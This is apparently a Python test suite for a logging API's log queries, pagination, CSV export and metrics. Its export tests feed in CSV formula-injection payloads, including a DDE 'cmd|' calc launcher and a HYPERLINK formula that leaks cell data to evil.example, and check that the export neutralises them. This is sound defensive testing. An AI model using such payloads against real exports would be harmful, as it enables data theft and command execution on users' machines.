"""Queries: /api/logs filters and keyset pagination, the CSV export (RFC 4180, formulas neutralised)
and /api/metrics checked against values computed here from what was sent (docs/api.md "Queries")."""
import csv
import io
import json
import random
import threading
import time
import unittest

from harness import ServerTestCase, event, nearest_rank, qs

METHODS = ["GET", "POST", "DELETE"]


class LogsTest(ServerTestCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        s = cls.server
        cls.api = s.create_api(cls.admin, "logs-api")
        now = time.time()
        cls.t0 = now - 3000.0
        cls.sent = []
        for i in range(150):
            cls.sent.append(event(
                # Ties (three events share a timestamp) and fractions that are not exact in binary.
                timestamp=round(cls.t0 + (i // 3) * 0.7 + 0.123456, 6),
                method=METHODS[i % 3],
                endpoint=f"/q/{'b' if i % 4 == 0 else 'a'}/{i}",
                client_ip=f"10.0.0.{i % 5}",
                status_code=500 if i % 10 == 0 else (404 if i % 11 == 0 else 200),
                latency_ms=float(i)))
        random.Random(7).shuffle(cls.sent)  # arrival order differs from time order
        for k in range(0, 150, 50):
            r = s.batch(cls.sent[k:k + 50], headers={"X-Api-Key": cls.api["ingest_key"]})
            assert r.status == 200 and r.json()["accepted"] == 50, r

    def expected(self, pred=lambda e: True):
        return sorted(e["endpoint"] for e in self.sent if pred(e))

    def got(self, token=None, **filters):
        rows = self.server.all_logs(token or self.admin, api_id=self.api["id"], **filters)
        return sorted(r["endpoint"] for r in rows)

    def test_row_shape_and_order(self):
        j = self.server.logs(self.admin, api_id=self.api["id"], limit=1000)
        rows = j["logs"]
        self.assertEqual(len(rows), 150)
        self.assertIsNone(j["next_cursor"])
        keys = [(r["timestamp"], r["id"]) for r in rows]
        self.assertEqual(keys, sorted(keys, reverse=True), "newest first (ties by id)")
        self.assertEqual(len({r["id"] for r in rows}), 150)
        by_ep = {e["endpoint"]: e for e in self.sent}
        for r in rows:
            e = by_ep[r["endpoint"]]
            self.assertEqual((r["api_id"], r["method"], r["client_ip"], r["status_code"], r["latency_ms"]),
                             (self.api["id"], e["method"], e["client_ip"], e["status_code"], e["latency_ms"]))
            self.assertAlmostEqual(r["timestamp"], e["timestamp"], delta=1e-3)

    def test_filters(self):
        self.assertEqual(self.got(status_min=500), self.expected(lambda e: e["status_code"] >= 500))
        self.assertEqual(self.got(status_min=400, status_max=499), self.expected(lambda e: 400 <= e["status_code"] <= 499))
        self.assertEqual(self.got(status_max=299), self.expected(lambda e: e["status_code"] <= 299))
        self.assertEqual(self.got(client_ip="10.0.0.1"), self.expected(lambda e: e["client_ip"] == "10.0.0.1"))
        self.assertEqual(self.got(method="POST"), self.expected(lambda e: e["method"] == "POST"))
        self.assertEqual(self.got(endpoint="/q/b/*"), self.expected(lambda e: e["endpoint"].startswith("/q/b/")))
        self.assertEqual(self.got(endpoint="/q/a/5"), ["/q/a/5"])
        self.assertEqual(self.got(endpoint="/q/a/"), [], "without * the endpoint is exact")
        # from/to chosen between timestamps, so inclusive or exclusive bounds give the same rows.
        lo, hi = self.t0 + 10 * 0.7, self.t0 + 30 * 0.7
        self.assertEqual(self.got(**{"from": lo, "to": hi}), self.expected(lambda e: lo <= e["timestamp"] <= hi))
        self.assertEqual(len(self.got(**{"from": lo, "to": hi})), 60)
        self.assertEqual(self.got(method="GET", status_min=500, client_ip="10.0.0.0", endpoint="/q/*"),
                         self.expected(lambda e: e["method"] == "GET" and e["status_code"] >= 500 and e["client_ip"] == "10.0.0.0"))

    def test_literal_wildcards_in_endpoint_filter(self):
        # Only a trailing * is a wildcard: % and _ are ordinary characters (no SQL LIKE leaking through).
        self.assertEqual(self.got(endpoint="/q/_/1"), [])
        self.assertEqual(self.got(endpoint="/q/%"), [])
        self.assertEqual(self.got(endpoint="/q/%*"), [])

    def test_bad_parameters(self):
        for params, field in (({"limit": 5000}, "limit"), ({"limit": 0}, "limit"), ({"limit": "ten"}, "limit"),
                              ({"cursor": "garbage"}, "cursor"), ({"from": "yesterday"}, "from"),
                              ({"status_min": "x"}, "status_min")):
            with self.subTest(params):
                self.assertError(self.server.get("/api/logs?" + qs(**params), self.admin), 400, field)

    def test_keyset_pagination_visits_every_row_once(self):
        single = [r["id"] for r in self.server.logs(self.admin, api_id=self.api["id"], limit=1000)["logs"]]
        for page in (1, 7, 50, 149, 150):
            with self.subTest(page=page):
                seen, cursor, pages = [], None, 0
                while True:
                    j = self.server.logs(self.admin, api_id=self.api["id"], limit=page, cursor=cursor)
                    self.assertLessEqual(len(j["logs"]), page)
                    seen += [r["id"] for r in j["logs"]]
                    cursor = j["next_cursor"]
                    pages += 1
                    if not cursor:
                        break
                    self.assertLess(pages, 200)
                self.assertEqual(seen, single, "same rows, same order, none skipped or repeated")

    def test_pagination_stable_while_new_events_arrive(self):
        api = self.server.create_api(self.admin, "moving")
        key = api["ingest_key"]
        base = time.time() - 100
        first = [event(timestamp=base + i * 0.01, endpoint=f"/mv/{i}") for i in range(60)]
        self.assertEqual(self.server.batch(first, headers={"X-Api-Key": key}).json()["accepted"], 60)
        seen, cursor, n = [], None, 0
        while True:
            j = self.server.logs(self.admin, api_id=api["id"], limit=9, cursor=cursor)
            seen += [r["endpoint"] for r in j["logs"]]
            cursor = j["next_cursor"]
            if not cursor:
                break
            # Newer events arrive between pages (offset paging would shift and repeat rows).
            n += 1
            more = [event(timestamp=time.time(), endpoint=f"/mv/new{n}-{k}") for k in range(5)]
            self.assertEqual(self.server.batch(more, headers={"X-Api-Key": key}).json()["accepted"], 5)
        self.assertEqual(len(seen), len(set(seen)), "a row was repeated")
        self.assertEqual(sorted(e for e in seen if not e.startswith("/mv/new")), sorted(e["endpoint"] for e in first))


class ExportTest(ServerTestCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        s = cls.server
        cls.api = s.create_api(cls.admin, "export-api")
        t0 = time.time() - 500
        cls.tricky = {
            "/=1+2": None,  # starts with '/': not a formula, exported as is
            "=1+2": "'=1+2",
            "+SUM(A1:A9)": "'+SUM(A1:A9)",
            "-1+cmd|' /C calc'!A0": "'-1+cmd|' /C calc'!A0",
            "@SUM(1,2)": "'@SUM(1,2)",
            "\t=1+1": "'\t=1+1",
        }
        evs = [event(timestamp=t0 + i, endpoint=f"/plain/{i}", latency_ms=1.25 * i,
                     client_ip="192.0.2.10", status_code=200) for i in range(20)]
        # A server may refuse endpoints that do not start with '/' (400 naming the field); the
        # ones it stores must come out neutralised.
        for i, ep in enumerate(list(cls.tricky)):
            r = s.post("/api/ingest", event(cls.api["ingest_key"], timestamp=t0 + 100 + i, endpoint=ep, status_code=503))
            if r.status == 400 and r.json().get("field") == "endpoint" and not ep.startswith("/"):
                del cls.tricky[ep]
            else:
                assert r.status == 200, (ep, r)
        evs.append(event(timestamp=t0 + 200, endpoint="/hdr/hyperlink", status_code=503,
                         headers={"User-Agent": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
                                  "Host": "@evil.example"}))
        evs.append(event(timestamp=t0 + 201, endpoint="/hdr/quoting", status_code=503,
                         headers={"User-Agent": 'Mozilla/5.0 (a, "b")\r\nsecond line; é ✓'}))
        r = s.batch(evs, headers={"X-Api-Key": cls.api["ingest_key"]})
        assert r.status == 200 and r.json()["accepted"] == len(evs), r
        cls.count = len(evs) + len(cls.tricky)

    def export(self, token=None, **filters):
        r = self.server.get("/api/export/logs?" + qs(**filters), token or self.admin)
        self.assertEqual(r.status, 200, r)
        self.assertTrue(r.header("Content-Type").startswith("text/csv"), r.headers)
        return r

    def parse(self, r):
        rows = list(csv.reader(io.StringIO(r.body, newline=""), strict=True))
        header = rows[0]
        return header, [dict(zip(header, row)) for row in rows[1:]], rows

    def test_rfc4180_and_matches_logs(self):
        r = self.export(api_id=self.api["id"])
        self.assertIn(b"\r\n", r.raw)
        self.assertTrue(r.raw.endswith(b"\r\n"))
        header, rows, raw_rows = self.parse(r)
        for col in ("id", "api_id", "timestamp", "method", "endpoint", "client_ip", "status_code", "latency_ms"):
            self.assertIn(col, header)
        self.assertTrue(all(len(x) == len(header) for x in raw_rows), "every record has every column")
        self.assertEqual(len(rows), self.count)
        logs = {str(x["id"]): x for x in self.server.all_logs(self.admin, api_id=self.api["id"])}
        self.assertEqual(sorted(x["id"] for x in rows), sorted(logs))
        for x in rows:
            if x["endpoint"].startswith("/plain/"):
                src = logs[x["id"]]
                self.assertEqual((x["endpoint"], x["method"], x["client_ip"], int(x["status_code"])),
                                 (src["endpoint"], src["method"], src["client_ip"], src["status_code"]))
                self.assertAlmostEqual(float(x["latency_ms"]), src["latency_ms"], places=3)
                self.assertAlmostEqual(float(x["timestamp"]), src["timestamp"], delta=1e-3)
        quoted = [x for x in rows if x["endpoint"] == "/hdr/quoting"][0]
        self.assertEqual(quoted.get("user_agent"), 'Mozilla/5.0 (a, "b")\r\nsecond line; é ✓',
                         "commas, quotes, CR LF and UTF-8 survive the round trip")

    def test_formulas_neutralised(self):
        header, rows, _ = self.parse(self.export(api_id=self.api["id"], status_min=503))
        self.assertEqual(len(rows), len(self.tricky) + 2, "the filter applies to the export")
        endpoints = {x["endpoint"] for x in rows}
        for sent, want in self.tricky.items():
            self.assertIn(want or sent, endpoints, f"{sent!r} should be exported as {want or sent!r}")
        for cell in (c for x in rows for c in x.values()):
            self.assertFalse(cell[:1] in ("=", "+", "@", "\t", "\r") or
                             (cell[:1] == "-" and not cell.replace(".", "").lstrip("-").isdigit()),
                             f"cell {cell!r} would be evaluated by a spreadsheet")
        hyper = [x for x in rows if x["endpoint"] == "/hdr/hyperlink"][0]
        self.assertEqual(hyper.get("user_agent"), '\'=HYPERLINK("http://evil.example/?x="&A1,"click")')
        self.assertEqual(hyper.get("host"), "'@evil.example")

    def test_large_export_streams_every_row_once(self):
        api = self.server.create_api(self.admin, "big-export")
        t = time.time() - 1000
        evs = [event(timestamp=t + (i // 4) * 0.001, endpoint=f"/big/{i}") for i in range(2600)]
        r = self.server.batch(evs, headers={"X-Api-Key": api["ingest_key"]})
        self.assertEqual(r.json()["accepted"], 2600, r)
        r = self.export(api_id=api["id"])
        _, rows, _ = self.parse(r)
        self.assertEqual(len(rows), 2600)
        self.assertEqual(len({x["id"] for x in rows}), 2600, "no row repeated across streamed pages")
        self.assertEqual({x["endpoint"] for x in rows}, {e["endpoint"] for e in evs})

    def test_export_needs_auth(self):
        self.assertError(self.server.get("/api/export/logs"), 401)


class MetricsTest(ServerTestCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        s = cls.server
        cls.api = s.create_api(cls.admin, "metrics-api")
        cls.other = s.create_api(cls.admin, "metrics-other")
        now = time.time()
        cls.t0 = float(int(now // 60) * 60 - 600)  # a minute boundary, ten minutes ago
        rng = random.Random(11)
        # 101 distinct latencies: nearest-rank and interpolating percentile methods agree here.
        lat = [1.5 * k for k in range(101)]
        rng.shuffle(lat)
        ips = ["10.1.0.1"] * 40 + ["10.1.0.2"] * 30 + ["10.1.0.3"] * 20 + ["10.1.0.4"] * 11
        eps = ["/m/a"] * 50 + ["/m/b"] * 25 + ["/m/c"] * 15 + ["/m/d"] * 11
        statuses = [500] * 7 + [503] * 5 + [200] * 80 + [201] * 9
        for seq in (ips, eps, statuses):
            rng.shuffle(seq)
        offsets = [rng.uniform(0, 59.9) for _ in range(35)] + [rng.uniform(60, 119.9) for _ in range(40)] + \
                  [rng.uniform(120, 179.9) for _ in range(26)]
        cls.sent = [event(timestamp=cls.t0 + offsets[i], latency_ms=lat[i], client_ip=ips[i], endpoint=eps[i],
                          status_code=statuses[i]) for i in range(101)]
        old = [event(timestamp=now - 7200 - i, endpoint="/m/old", status_code=500, latency_ms=9999) for i in range(5)]
        r = s.batch(cls.sent + old, headers={"X-Api-Key": cls.api["ingest_key"]})
        assert r.json()["accepted"] == 106, r
        r = s.batch([event(timestamp=cls.t0 + 5, endpoint="/other")] * 3, headers={"X-Api-Key": cls.other["ingest_key"]})
        assert r.json()["accepted"] == 3, r

    def metrics(self, token=None, **params):
        r = self.server.get("/api/metrics?" + qs(**params), token or self.admin)
        self.assertEqual(r.status, 200, r)
        return r.json()

    def mine(self, j):
        m = [a for a in j["apis"] if a["api_id"] == self.api["id"]]
        self.assertEqual(len(m), 1, j)
        return m[0]

    def test_totals_and_percentiles_exact(self):
        j = self.metrics(api_id=self.api["id"], **{"from": self.t0, "to": self.t0 + 180}, bucket=60, top=3)
        self.assertEqual((j["from"], j["to"], j["bucket"]), (self.t0, self.t0 + 180, 60))
        self.assertEqual([a["api_id"] for a in j["apis"]], [self.api["id"]], "api_id filter")
        m = self.mine(j)
        self.assertEqual(m["name"], "metrics-api")
        t = m["totals"]
        lats = [e["latency_ms"] for e in self.sent]
        errors = sum(1 for e in self.sent if e["status_code"] >= 500)
        self.assertEqual((t["requests"], t["errors"]), (101, errors))
        self.assertAlmostEqual(t["error_rate"], errors / 101, places=9)
        for q, k in ((0.5, "p50"), (0.95, "p95"), (0.99, "p99")):
            self.assertAlmostEqual(t[k], nearest_rank(lats, q), places=6, msg=k)
        self.assertEqual((t["p50"], t["p95"], t["p99"]), (75.0, 142.5, 148.5))

    def test_buckets(self):
        m = self.mine(self.metrics(api_id=self.api["id"], **{"from": self.t0, "to": self.t0 + 180}, bucket=60))
        buckets = {round(b["ts"] - self.t0): b for b in m["buckets"]}
        self.assertEqual(sorted(buckets), [0, 60, 120])
        for start, n in ((0, 35), (60, 40), (120, 26)):
            inside = [e for e in self.sent if start <= e["timestamp"] - self.t0 < start + 60]
            b = buckets[start]
            self.assertEqual(b["requests"], n)
            errors = sum(1 for e in inside if e["status_code"] >= 500)
            self.assertEqual(b["errors"], errors)
            self.assertAlmostEqual(b["error_rate"], errors / n, places=9)
            lats = [e["latency_ms"] for e in inside]
            self.assertTrue(min(lats) <= b["p50"] <= b["p95"] <= b["p99"] <= max(lats), b)
        self.assertEqual(sum(b["requests"] for b in m["buckets"]), 101)

    def test_top_ips_and_endpoints(self):
        m = self.mine(self.metrics(api_id=self.api["id"], **{"from": self.t0, "to": self.t0 + 180}, top=3))
        self.assertEqual(m["top_ips"], [{"ip": "10.1.0.1", "count": 40}, {"ip": "10.1.0.2", "count": 30},
                                        {"ip": "10.1.0.3", "count": 20}])
        self.assertEqual(m["top_endpoints"], [{"endpoint": "/m/a", "count": 50}, {"endpoint": "/m/b", "count": 25},
                                              {"endpoint": "/m/c", "count": 15}])
        m = self.mine(self.metrics(api_id=self.api["id"], **{"from": self.t0, "to": self.t0 + 180}))
        self.assertEqual(len(m["top_ips"]), 4, "default top is 10: all four")

    def test_windows(self):
        # Default window: the last hour, so the two-hour-old events are out.
        m = self.mine(self.metrics(api_id=self.api["id"]))
        self.assertEqual(m["totals"]["requests"], 101)
        self.assertNotIn("/m/old", json.dumps(m["top_endpoints"]))
        m = self.mine(self.metrics(api_id=self.api["id"], **{"from": time.time() - 3 * 3600}, bucket=3600))
        self.assertEqual(m["totals"]["requests"], 106)
        m = self.mine(self.metrics(api_id=self.api["id"], **{"from": self.t0 + 60, "to": self.t0 + 119.95}, bucket=60))
        self.assertEqual(m["totals"]["requests"], 40)
        # Without api_id the admin gets every API with events in the window.
        ids = {a["api_id"] for a in self.metrics(**{"from": self.t0, "to": self.t0 + 180})["apis"]}
        self.assertEqual(ids, {self.api["id"], self.other["id"]})

    def test_bad_parameters(self):
        for params, field in (({"bucket": 0}, "bucket"), ({"bucket": "x"}, "bucket"), ({"top": 0}, "top"),
                              ({"from": "then"}, "from")):
            with self.subTest(params):
                self.assertError(self.server.get("/api/metrics?" + qs(**params), self.admin), 400, field)
        self.assertError(self.server.get("/api/metrics"), 401)


if __name__ == "__main__":
    unittest.main()
